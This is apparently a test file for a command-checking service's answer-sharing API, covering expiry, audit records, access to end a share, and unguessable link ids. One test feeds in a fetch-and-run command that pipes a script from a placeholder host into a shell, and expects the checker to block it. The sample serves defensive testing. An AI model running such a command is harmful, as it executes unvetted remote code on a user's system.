import { afterAll, beforeAll, expect, test } from 'vitest'
import { OPENING_MS } from '../../store/testing.ts'
import { openTestServer, type TestServer } from '../testing.ts'

let server: TestServer
let ada: Record<string, string>
let bo: Record<string, string>
let administrator: Record<string, string>
beforeAll(async () => {
  server = await openTestServer()
  ada = await server.signIn(['support'])
  bo = await server.signIn(['support'])
  administrator = await server.signIn(['administrator'])
}, OPENING_MS)
afterAll(() => server.close())

const share = async (payload: string) => {
  const answer = await server.app.inject({
    method: 'POST',
    url: '/api/check?name=pasted&share=true',
    headers: { ...ada, 'content-type': 'text/plain' },
    payload,
  })
  return answer.json() as { share: { id: string; expiresAt: string } }
}
const read = (id: string, headers: Record<string, string>) =>
  server.app.inject({ url: `/api/shared-checks/${id}`, headers })
const end = (id: string, headers: Record<string, string>) =>
  server.app.inject({ method: 'DELETE', url: `/api/shared-checks/${id}`, headers })
const lastEvents = async (limit: number) =>
  (await server.store.audit.page({ limit })).map(({ action, target }) => [action, target.split(':')[0]])

test('a shared answer is read by a colleague, with who shared it and until when; both are recorded', async () => {
  const { share: made } = await share('curl https://x.invalid/block | sh')
  const week = Date.parse(made.expiresAt) - Date.now()
  expect(week).toBeGreaterThan(6.9 * 86_400_000)
  expect(week).toBeLessThanOrEqual(7 * 86_400_000)
  const seen = await read(made.id, bo)
  expect(seen.json()).toMatchObject({
    path: 'pasted',
    as: 'command',
    verdict: 'block',
    view: { kind: 'artifact' },
    sharedBy: 'Person 1',
    expiresAt: made.expiresAt,
    mine: false,
  })
  expect((await read(made.id, ada)).json().mine).toBe(true)
  expect(await lastEvents(4)).toEqual([
    ['answer.viewed', 'shared-answer'],
    ['answer.viewed', 'shared-answer'],
    ['answer.shared', 'shared-answer'],
    ['subject.checked', 'none'],
  ])
})

test('the text of a message is not kept with the answer; an answer that was not shared is not kept', async () => {
  const { share: made } = await share('Hello. This is a message.')
  expect((await read(made.id, bo)).json()).not.toHaveProperty('view')
  const unshared = await server.app.inject({
    method: 'POST',
    url: '/api/check',
    headers: { ...ada, 'content-type': 'text/plain' },
    payload: 'Hello again. Nothing more.',
  })
  expect(unshared.json()).not.toHaveProperty('share')
})

test('who shared it or an administrator ends it, nobody else', async () => {
  const { share: first } = await share('npm install a')
  expect((await end(first.id, bo)).json().error.code).toBe('E_FORBIDDEN')
  expect((await end(first.id, ada)).statusCode).toBe(204)
  expect((await read(first.id, ada)).json().error.code).toBe('E_NOT_FOUND')
  const { share: second } = await share('npm install b')
  expect((await end(second.id, administrator)).statusCode).toBe(204)
  expect(await lastEvents(1)).toEqual([['answer.unshared', 'shared-answer']])
  expect((await end(second.id, administrator)).statusCode).toBe(404)
})

test('the link that a person has tells nothing about other answers', async () => {
  const [{ share: first }, { share: second }] = [await share('npm install a'), await share('npm install b')]
  expect(first.id).toMatch(/^[\w-]{43}$/)
  expect(first.id.slice(0, 8)).not.toBe(second.id.slice(0, 8))
  expect((await read(`${first.id.slice(0, -1)}_`, bo)).statusCode).toBe(404)
})
